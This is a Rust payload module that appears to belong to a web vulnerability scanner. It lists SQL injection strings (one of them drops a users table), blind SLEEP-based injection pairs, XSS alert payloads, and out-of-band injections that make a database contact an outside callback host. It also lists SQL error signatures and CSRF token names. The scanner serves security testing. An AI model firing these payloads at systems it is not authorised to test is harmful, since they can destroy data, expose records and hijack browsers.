//! Payload corpora and the fixed matching corpora the oracles consult.

use crate::config::Config;
use crate::Result;
use log::info;
use std::path::Path;
use tokio::fs;

/// Error-based SQL injection payloads, tried in this order.
pub const CLASSIC_SQLI: &[&str] = &[
    "'",
    "\"",
    "or 1=1",
    "'; DROP TABLE users;--",
    "1' or '1' = '1",
    "\" OR \"\"=\"",
];

/// True-condition halves of the blind pairs; index-aligned with [`BLIND_SQLI_FALSE`].
pub const BLIND_SQLI_TRUE: &[&str] = &[
    "1' AND 1=1--",
    "1' AND SLEEP(3)--",
    "1') AND 1=1--",
    "1') AND SLEEP(3)--",
];

pub const BLIND_SQLI_FALSE: &[&str] = &[
    "1' AND 1=2--",
    "1' AND SLEEP(0)--",
    "1') AND 1=2--",
    "1') AND SLEEP(0)--",
];

pub const XSS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "<body onload=alert('XSS')>",
];

/// Vendor error fragments; a response body containing any of them counts
/// as an error-based SQL injection hit.
pub const SQL_ERROR_SIGNATURES: &[&str] = &[
    "You have an error in your SQL syntax;",
    "mysql_fetch_array()",
    "Warning: mysql_",
    "Warning: pg_",
    "Warning: odbc_",
    "Warning: mssql_",
    "ORA-01756",
    "Error Executing Database Query",
    "Unclosed quotation mark after the character string",
];

/// Anti-CSRF field names, matched by exact equality.
pub const CSRF_TOKEN_NAMES: &[&str] = &[
    "csrf_token",
    "csrfmiddlewaretoken",
    "authenticity_token",
    "_csrf_token",
    "_csrf",
];

/// Out-of-band payloads, each forcing the database to resolve or fetch
/// `callback_host`.
pub fn out_of_band_sqli(callback_host: &str) -> Vec<String> {
    vec![
        format!("1'; EXEC xp_dirtree 'http://{}';--", callback_host),
        format!("1'; EXEC master..xp_dirtree '\\\\{}\\share';--", callback_host),
        format!("' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\','{}','\\\\a'))-- ", callback_host),
        format!("' OR UTL_INADDR.GET_HOST_ADDRESS('{}')='x'-- ", callback_host),
    ]
}

/// First signature found in `body`, if any.
pub fn find_sql_error(body: &str) -> Option<&'static str> {
    SQL_ERROR_SIGNATURES
        .iter()
        .copied()
        .find(|signature| body.contains(signature))
}

/// The corpora one scan uses. Built-ins unless the configuration points
/// at replacement files.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadSet {
    pub classic: Vec<String>,
    pub blind_true: Vec<String>,
    pub blind_false: Vec<String>,
    pub xss: Vec<String>,
}

impl Default for PayloadSet {
    fn default() -> Self {
        Self {
            classic: owned(CLASSIC_SQLI),
            blind_true: owned(BLIND_SQLI_TRUE),
            blind_false: owned(BLIND_SQLI_FALSE),
            xss: owned(XSS),
        }
    }
}

impl PayloadSet {
    pub async fn from_config(config: &Config) -> Result<Self> {
        let mut set = Self::default();

        if let Some(path) = &config.payloads.sqli_classic {
            set.classic = load_payload_file(path).await?;
        }
        if let Some(path) = &config.payloads.xss {
            set.xss = load_payload_file(path).await?;
        }

        Ok(set)
    }
}

fn owned(payloads: &[&str]) -> Vec<String> {
    payloads.iter().map(|p| p.to_string()).collect()
}

/// One payload per line; blank lines and `#` comments are skipped.
/// Payloads are not trimmed, leading or trailing spaces can be significant.
pub async fn load_payload_file(path: &Path) -> Result<Vec<String>> {
    let content = fs::read_to_string(path).await?;

    let payloads: Vec<String> = content
        .lines()
        .filter(|line| !line.trim().is_empty() && !line.starts_with('#'))
        .map(str::to_string)
        .collect();

    if payloads.is_empty() {
        return Err(crate::ScanError::InvalidInput(format!(
            "Payload file {} contains no payloads",
            path.display()
        )));
    }

    info!("Loaded {} payloads from {}", payloads.len(), path.display());
    Ok(payloads)
}
